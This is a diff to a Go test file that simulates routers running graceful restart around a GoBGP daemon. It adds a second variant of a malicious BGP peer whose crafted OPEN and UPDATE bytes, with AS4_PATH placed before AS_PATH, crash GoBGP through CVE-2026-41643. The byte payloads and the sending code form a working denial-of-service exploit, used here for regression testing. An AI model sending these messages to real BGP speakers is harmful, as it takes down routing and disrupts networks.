@@ -1,11 +1,13 @@
 package gobgp
 
 import (
+	"bytes"
 	"encoding/binary"
 	"fmt"
 	"io"
 	"net"
 	"net/netip"
+	"slices"
 	"testing"
 	"time"
 
@@ -14,7 +16,7 @@ import (
 )
 
 // gracefully is a world with both kinds of routers, both families, and a driver with graceful restart; all routes are in the kernels.
-func gracefully(t *testing.T, more map[string]plan.Peer) (w *world, d *node, set plan.BGPChange) {
+func gracefully(t *testing.T) (w *world, d *node, set plan.BGPChange) {
 	w = newWorld(t, "bird", "frr", "bird", "frr")
 	peers := map[string]plan.Peer{}
 	names := []string{}
@@ -27,9 +29,6 @@ func gracefully(t *testing.T, more map[string]plan.Peer) (w *world, d *node, set
 		p.NextHop4, p.NextHop6, p.GracefulRestart = f.link.node, f.node6, true
 		f.neighbors(t, n)
 		name := fmt.Sprintf("r%d", i)
-		peers[name], names = p, append(names, name)
-	}
-	for name, p := range more {
 		peers[name], names = p, append(names, name)
 	}
 	set = wanted(peers, map[netip.Prefix]plan.Route{vip4: to(names...), vip6: to(names...), pool4: to(names...), pool6: to(names...)})
@@ -47,7 +46,7 @@ func gracefully(t *testing.T, more map[string]plan.Peer) (w *world, d *node, set
 // GoBGP takes the restart for over with all.
 func TestKilled(t *testing.T) {
 	t.Parallel()
-	w, d, set := gracefully(t, nil)
+	w, d, set := gracefully(t)
 	stays := unchanged(t, w, more)
 	for range 2 {
 		d.kill()
@@ -104,15 +103,15 @@ func unchanged(t *testing.T, w *world, but netip.Prefix) func() {
 	}
 }
 
-// TestCrash: a peer without 4-octet AS numbers sends the UPDATE of CVE-2026-41643, and GoBGP takes the process down with it. The other
-// peers notice a graceful restart and nothing else.
+// TestCrash: a peer sends the UPDATE of CVE-2026-41643, and GoBGP takes the process down with it. The other peers notice a graceful
+// restart and nothing else. The peer is one without 4-octet AS numbers, then one with.
 func TestCrash(t *testing.T) {
 	t.Parallel()
-	evil := plan.Peer{Address: addr("203.0.113.200"), Port: 179, MyASN: nodeASN, PeerASN: routerASN, IPv4: true, ConnectTime: time.Second}
-	w, d, set := gracefully(t, map[string]plan.Peer{"evil": evil})
+	evil := plan.Peer{Address: addr("203.0.113.200"), Port: 1790, MyASN: nodeASN, PeerASN: routerASN, IPv4: true, MultiHop: true, ConnectTime: time.Second}
+	w, d, set := gracefully(t)
 	stays := unchanged(t, w, more)
+	// The attacker is on the first router.
 	f := w.routers[0]
-	// The attacker is on the first router's link, beside it.
 	f.space.Address(t, "eth0", "203.0.113.200/32")
 	w.node.Route(t, "203.0.113.200/32", f.link.router.String())
 	var l net.Listener
@@ -121,59 +120,71 @@ func TestCrash(t *testing.T) {
 		return err
 	})
 	defer l.Close()
-	evil.Port, evil.MultiHop = 1790, true
-	d.apply(t, plan.BGPChange{RouterID: nodeID, Peers: map[string]*plan.Peer{"evil": &evil}})
-	go attack(l)
-	select {
-	case <-d.ended:
-		t.Logf("the process ended: %v", d.err)
-	case <-time.After(patience):
-		t.Fatal("the process lives: is GoBGP mended? Then this test and docs/design/bgp.md have lost their reason")
+	for i, a := range attacks {
+		done := make(chan struct{})
+		go func() {
+			defer close(done)
+			a.make(l)
+		}()
+		d.try(order{Change: &plan.BGPChange{RouterID: nodeID, Peers: map[string]*plan.Peer{"evil": &evil}}}) // may not live to answer
+		select {
+		case <-d.ended:
+			t.Logf("attack %d: the process ended: %v", i, d.err)
+		case <-time.After(patience):
+			t.Fatal("the process lives: is GoBGP mended? Then this test has lost its reason")
+		}
+		<-done
+		d = startNode(t, w.node)
+		d.apply(t, set)
+		for i := range w.routers {
+			d.up(t, fmt.Sprintf("r%d", i))
+		}
+		d.apply(t, plan.BGPChange{RouterID: nodeID, Routes: map[netip.Prefix]plan.Route{more: to("r0", "r1", "r2", "r3")}})
+		for _, f := range w.routers {
+			f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}, more: {f.link.node}})
+		}
+		d.apply(t, plan.BGPChange{RouterID: nodeID, Routes: map[netip.Prefix]plan.Route{more: nil}})
+		for _, f := range w.routers {
+			f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}})
+		}
+		stays()
 	}
-	d = startNode(t, w.node)
-	delete(set.Peers, "evil")
-	d.apply(t, set)
-	for i := range w.routers {
-		d.up(t, fmt.Sprintf("r%d", i))
-	}
-	d.apply(t, plan.BGPChange{RouterID: nodeID, Routes: map[netip.Prefix]plan.Route{more: to("r0", "r1", "r2", "r3")}})
-	for _, f := range w.routers {
-		f.kernel(t, 4, map[netip.Prefix][]netip.Addr{vip4: {f.link.node}, pool4: {f.link.node}, more: {f.link.node}})
-	}
-	stays()
 }
 
-// attack plays a peer that has no capabilities at all.
-func attack(l net.Listener) {
+// attack is an OPEN's optional parameters and an UPDATE's path attributes, with AS4_PATH before AS_PATH, which is the last: GoBGP takes the
+// first out of the list and then writes to where the second was (UpdatePathAttrs4ByteAs in internal/pkg/table/message.go of v3.37.0;
+// mended in v4.3.0).
+type attack struct{ options, attributes []byte }
+
+var (
+	origin  = []byte{0x40, 1, 1, 0}                       // IGP
+	nextHop = []byte{0x40, 3, 4, 203, 0, 113, 200}        // the attacker
+	as4Path = []byte{0xc0, 17, 6, 2, 1, 0, 0, 0xfd, 0xea} // 65002
+)
+
+var attacks = []attack{
+	{nil, slices.Concat(origin, nextHop, as4Path, []byte{0x40, 2, 4, 2, 1, 0xfd, 0xea})},
+	{[]byte{2, 6, 65, 4, 0, 0, 0xfd, 0xea}, slices.Concat(origin, nextHop, as4Path, []byte{0x40, 2, 6, 2, 1, 0, 0, 0xfd, 0xea})},
+}
+
+// make plays the peer. What fails in it the test's deadline tells.
+func (a attack) make(l net.Listener) {
 	conn, err := l.Accept()
 	if err != nil {
 		return
 	}
 	defer conn.Close()
 	message := func(kind byte, body []byte) {
-		m := make([]byte, 16, 19+len(body))
-		for i := range m {
-			m[i] = 0xff
-		}
-		m = binary.BigEndian.AppendUint16(m, uint16(19+len(body)))
-		conn.Write(append(append(m, kind), body...)) // if it fails the test's deadline tells
+		m := binary.BigEndian.AppendUint16(bytes.Repeat([]byte{0xff}, 16), uint16(19+len(body)))
+		conn.Write(append(append(m, kind), body...))
 	}
 	open := binary.BigEndian.AppendUint16([]byte{4}, routerASN)
-	open = append(binary.BigEndian.AppendUint16(open, 90), 203, 0, 113, 200, 0)
-	message(1, open)
+	open = append(binary.BigEndian.AppendUint16(open, 90), 203, 0, 113, 200, byte(len(a.options)))
+	message(1, append(open, a.options...))
 	message(4, nil)
-	readMessage(conn)                                                               // its OPEN
-	readMessage(conn)                                                               // its KEEPALIVE: the session is up for it now or soon
-	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(attack41643))) // nothing is withdrawn
-	message(2, append(append(update, attack41643...), 24, 192, 0, 2))
+	readMessage(conn)                                                                // its OPEN
+	readMessage(conn)                                                                // its KEEPALIVE: the session is up
+	update := binary.BigEndian.AppendUint16([]byte{0, 0}, uint16(len(a.attributes))) // nothing is withdrawn
+	message(2, append(append(update, a.attributes...), 24, 192, 0, 2))
 	io.Copy(io.Discard, conn)
-}
-
-// attack41643 are path attributes with AS4_PATH before AS_PATH, which is the last: GoBGP takes the first out of the list and then writes
-// to where the second was (UpdatePathAttrs4ByteAs in internal/pkg/table/message.go of v3.37.0; mended in v4.3.0).
-var attack41643 = []byte{
-	0x40, 1, 1, 0, // ORIGIN IGP
-	0x40, 3, 4, 203, 0, 113, 200, // NEXT_HOP
-	0xc0, 17, 6, 2, 1, 0, 0, 0xfd, 0xea, // AS4_PATH 65002
-	0x40, 2, 4, 2, 1, 0xfd, 0xea, // AS_PATH 65002, two octets each
 }
